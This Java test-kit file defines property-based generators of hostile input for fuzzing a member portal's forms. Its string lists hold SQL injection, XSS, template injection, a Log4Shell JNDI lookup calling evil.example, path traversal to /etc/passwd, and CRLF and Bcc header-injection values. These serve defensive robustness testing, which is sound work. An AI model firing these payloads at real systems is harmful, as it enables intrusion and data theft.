/*
 * SPDX-License-Identifier: Apache-2.0
 */
package org.memberportal.examples.reliability;

import java.time.Instant;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import org.memberportal.account.testkit.AccountArbitraries;
import org.memberportal.affiliation.testkit.AffiliationArbitraries;

/**
 * jqwik generators of hostile values: what an attacker, a broken client or a copy-paste puts into a form.
 */
final class Hostile {

  /** One megabyte of text. */
  static final String ONE_MB = "a".repeat(1 << 20);

  /** Fixed nasty strings, each a known way to break parsers, queries, templates or logs. */
  static final List<String> NASTY = List.of(
      "", " ", "\t\r\n", "\u0000", "a\u0000b", "\u0007\u001b[31mred\u001b[0m", "line\r\nInjected: header",
      "zero\u200Bwidth\u200C\u200D\uFEFF", "\u202Eevil\u202C", "\uD800", "\uDFFF\uD800", "👩‍💻🏳️‍🌈",
      "аdmin", "ΑDMIN", "ＡＤＭＩＮ", "ᴀᴅᴍɪɴ", "e\u0301", "\u00e9", "İstanbul", "ß", "ﬁ",
      "' OR '1'='1", "'; DROP TABLE accounts; --", "1; SELECT pg_sleep(10)", "\" OR \"\"=\"",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
      "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "%s%n%x", "{0}{1}",
      "../../../../etc/passwd", "C:\\Windows\\system32", "null", "undefined", "NaN", "-1", "0",
      "9".repeat(40), "CH", "ch", "ZZ", "C", "CHE", "Grace", " Grace ");

  /** Email-shaped nasty strings: almost valid, lookalike or oversized. */
  static final List<String> EMAILS = List.of(
      "a@b", "@", "a@", "@b.org", "a@@b.org", "a@b@c.org", "a b@c.org", " ada@example.org ",
      "ADA@EXAMPLE.ORG", "ada@exаmple.org", "ad\u200Ba@example.org", "ada@example.org\u0000",
      "ada@example.org\r\nBcc: all@example.org", "\"quoted local\"@example.org", "ada+tag@example.org",
      "a".repeat(64) + "@" + "b".repeat(185) + ".org", "a".repeat(300) + "@example.org",
      "<script>@example.org", "'--@example.org", "ada@localhost", "ada@[127.0.0.1]", "xn--80ak6aa92e@example.org",
      "пользователь@пример.рф", "ada@example.org.");

  /** The slots of {@link Values#strings()} a scene read as text on this thread, since {@link #textRead()}. */
  private static final ThreadLocal<java.util.BitSet> TEXT_READ = ThreadLocal.withInitial(java.util.BitSet::new);

  private Hostile() {}

  /**
   * Which string slots the scene read as text (for a text field of a command) since the last call, and forgets
   * them: how the hostile-text suite knows which slots reach a text field.
   *
   * @return the slots read
   */
  static java.util.BitSet textRead() {
    java.util.BitSet read = (java.util.BitSet) TEXT_READ.get().clone();
    TEXT_READ.get().clear();
    return read;
  }

  /**
   * Any hostile string, or null.
   *
   * @return the arbitrary
   */
  static Arbitrary<String> strings() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(10, Arbitraries.of(NASTY)),
        net.jqwik.api.Tuple.of(6, Arbitraries.of(EMAILS)),
        net.jqwik.api.Tuple.of(4, AccountArbitraries.emails()),
        net.jqwik.api.Tuple.of(3, AffiliationArbitraries.organisationNames()),
        net.jqwik.api.Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
        net.jqwik.api.Tuple.of(2, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1)
            .ofMaxLength(10)),
        net.jqwik.api.Tuple.of(2, Arbitraries.strings().all().ofMinLength(201).ofMaxLength(600)),
        net.jqwik.api.Tuple.of(2, AccountArbitraries.strongPasswords()),
        net.jqwik.api.Tuple.of(1, Arbitraries.just(ONE_MB)),
        net.jqwik.api.Tuple.of(1, Arbitraries.just(ONE_MB + "@example.org")))
        .injectNull(0.08);
  }

  /**
   * Hostile integers: limits, negatives, zero, around the page limits.
   *
   * @return the arbitrary
   */
  static Arbitrary<Integer> ints() {
    return Arbitraries.oneOf(
        Arbitraries.of(Integer.MIN_VALUE, Integer.MAX_VALUE, -1, 0, 1, 99, 100, 101, Integer.MAX_VALUE / 2),
        Arbitraries.integers());
  }

  /**
   * Hostile longs (versions): limits, negatives, plausible values.
   *
   * @return the arbitrary
   */
  static Arbitrary<Long> longs() {
    return Arbitraries.oneOf(Arbitraries.of(Long.MIN_VALUE, Long.MAX_VALUE, -1L, 0L, 1L, 2L), Arbitraries.longs());
  }

  /**
   * Instants the clock may show when a command runs: now, far past, far future.
   *
   * @return the arbitrary
   */
  static Arbitrary<Instant> instants() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(12, Arbitraries.just(org.memberportal.kernel.testkit.MutableClock.START)),
        net.jqwik.api.Tuple.of(1, Arbitraries.of(Instant.EPOCH, Instant.parse("0001-01-01T00:00:00Z"),
            Instant.parse("1900-02-28T23:59:59Z"), Instant.parse("9999-12-31T23:59:59Z"),
            Instant.parse("2038-01-19T03:14:08Z"), Instant.parse("+100000-01-01T00:00:00Z"),
            Instant.parse("-100000-01-01T00:00:00Z"))));
  }

  /**
   * The raw material of one hostile call: strings, numbers, picks among the scene's ids and actors, the clock.
   *
   * @param strings hostile strings (null allowed)
   * @param ints hostile ints
   * @param longs hostile longs
   * @param picks indices into the scene's ids (out of range means a random or nil id, or null)
   * @param actor index of the actor
   * @param at the clock's instant during the call
   */
  record Values(List<String> strings, List<Integer> ints, List<Long> longs, List<Integer> picks, int actor,
      Instant at) {

    /** A string for a text field. */
    String s(int i) {
      TEXT_READ.get().set(i % strings.size());
      return raw(i);
    }

    /** A string for something that is not a text field: a password, a code, a language tag, a broken CSV line. */
    String raw(int i) {
      return strings.get(i % strings.size());
    }

    int i(int i) {
      return ints.get(i % ints.size());
    }

    long l(int i) {
      return longs.get(i % longs.size());
    }

    int pick(int i) {
      return picks.get(i % picks.size());
    }

    @Override
    public String toString() {
      return "Values{strings=" + strings.stream().map(Hostile::describe).toList() + ", ints=" + ints
          + ", longs=" + longs + ", picks=" + picks + ", actor=" + actor + ", at=" + at + "}";
    }
  }

  static String describe(String s) {
    if (s == null) {
      return "null";
    }
    if (s.length() > 60) {
      return "<" + s.length() + " chars " + s.substring(0, 20).replaceAll("\\p{Cntrl}", "?") + "...>";
    }
    return "\"" + s.replaceAll("\\p{Cntrl}", "?") + "\"";
  }

  static Arbitrary<Values> values() {
    return Combinators.combine(
        strings().list().ofSize(8),
        ints().list().ofSize(3),
        longs().list().ofSize(2),
        Arbitraries.integers().between(0, 24).list().ofSize(6),
        Arbitraries.integers().between(0, 99),
        instants()).as(Values::new);
  }
}
